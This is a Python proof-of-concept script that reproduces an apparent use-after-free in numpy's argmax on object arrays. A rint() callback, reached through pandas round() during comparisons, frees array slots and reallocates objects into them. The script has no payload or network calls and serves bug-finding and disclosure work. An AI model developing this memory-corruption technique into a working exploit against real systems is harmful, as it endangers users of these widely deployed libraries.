# source: numpy/core/code_generators/generate_umath.py ('rint' on object arrays calls the element's .rint() method); pandas/core/generic.py NDFrame.__round__ -> Series.round -> ndarray.round
# family: comparison calls round() on a pandas Series of objects -> numpy calls each element's plain .rint() method (arbitrary code) inside the comparison
# goal: rint() overwrites the object array numpy is running argmax over: use-after-free, a freed slot reused by a new object is then compared by numpy
import sys
import numpy as np
import pandas as pd

STAGE = [0]
KEEP = []
ADDR_P = []
ADDR_Q = []
MSG = "Q: made after the free, never put in ARR"


def mutate():
    STAGE[0] += 1
    if STAGE[0] == 1:
        # first comparison: drop the array's references to P0 and P1
        ARR[0] = None
        ARR[1] = None
    elif STAGE[0] == 2:
        # P0 and P1 are freed now; numpy still holds one of them as its max
        KEEP.append(Q(MSG))
        KEEP.append(Q(MSG))


class Q:
    __slots__ = ("v", "box")

    def __init__(self, v):
        self.v = v
        self.box = None
        ADDR_Q.append(hash(self))



class Trig:
    def rint(self):
        mutate()
        return 1.0


BOX = pd.Series([Trig()], dtype=object)

class P:
    __slots__ = ("v", "box")

    def __init__(self, v, box):
        self.v = v
        self.box = box
        ADDR_P.append(hash(self))

    def __gt__(self, other):
        return round(self.box) is not None and self.v == "P"

    def __lt__(self, other):
        return round(self.box) is not None and self.v == "P"


class Probe:
    __slots__ = ("v", "box")

    def __init__(self, box):
        self.v = "probe"
        self.box = box

    def __gt__(self, other):
        return round(self.box) is not None and other.v == "Q: made after the free, never put in ARR"

ARR = np.array([P("P", BOX), P("P", BOX), Probe(BOX), Probe(BOX)], dtype=object)
ADDR_P = ADDR_P[-2:]
i = ARR.argmax()
print("argmax =", i, "(2 means numpy compared a freed P slot that now holds a Q)")
print("freed P hashes:", ADDR_P, "new Q hashes:", ADDR_Q, "same memory:", sorted(ADDR_P) == sorted(ADDR_Q))
sys.stdout.flush()
